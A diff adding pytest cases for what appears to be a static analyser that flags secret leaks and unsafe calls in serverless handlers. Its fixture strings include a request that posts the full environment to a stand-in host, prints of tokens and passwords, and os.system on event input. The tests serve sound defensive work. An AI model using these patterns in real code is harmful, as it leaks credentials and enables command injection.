@@ -224,3 +224,32 @@ def test_secret_values_are_in_no_result() -> None:
 def test_without_a_handler_setting_functions_that_look_like_handlers_are_walked() -> None:
     source = "import os\ndef on_order(event, context):\n    os.system(event['x'])\ndef helper(a, b):\n    os.system(a)\n"
     assert kinds(source, handler=None) == [("process", 3, "high")]
+
+
+DISCLOSED = [
+    ("requests.post('https://a.example/', json=dict(os.environ))", "environment-disclosed"),
+    ("print(json.dumps(dict(os.environ)))", "environment-disclosed"),
+    ("print(os.environ['AWS_SESSION_TOKEN'])", "environment-disclosed"),
+    ("print(os.environ['DB_PASSWORD'])", "log-secret"),
+    ("print(event['headers']['authorization'])", "log-secret"),
+    ("print(os.environ['TABLE'])", ""),
+    ("requests.post(os.environ['URL'], headers={'authorization': os.environ['API_TOKEN']})", ""),
+    ("print(len(os.environ['DB_PASSWORD']))", ""),
+]
+
+
+@pytest.mark.parametrize(("call", "kind"), DISCLOSED)
+def test_what_must_stay_inside(call: str, kind: str) -> None:
+    """CODE-9: the environment and secrets in logs and requests."""
+    source = f"import json, os, requests\ndef handler(event, context):\n    {call}\n"
+    assert [flow.kind for flow in analysis_of(source, "url").flows if flow.confidence != "low"] == ([kind] if kind else [])
+
+
+def test_state_files_and_credentials_of_the_same_code_are_issues() -> None:
+    source = (
+        "import boto3\nkeys = boto3.client('secretsmanager')\ndef handler(event, context):\n"
+        "    with open('/tmp/key', 'w') as out:\n        out.write(keys.get_secret_value(SecretId='k')['SecretString'])\n"
+        "    return open('/tmp/other').read()\n"
+    )
+    found = {(issue.kind, issue.where.line, issue.confidence) for issue in analysis_of(source).issues}
+    assert found == {("tmp-left", 4, "high"), ("tmp-read", 6, "low")}
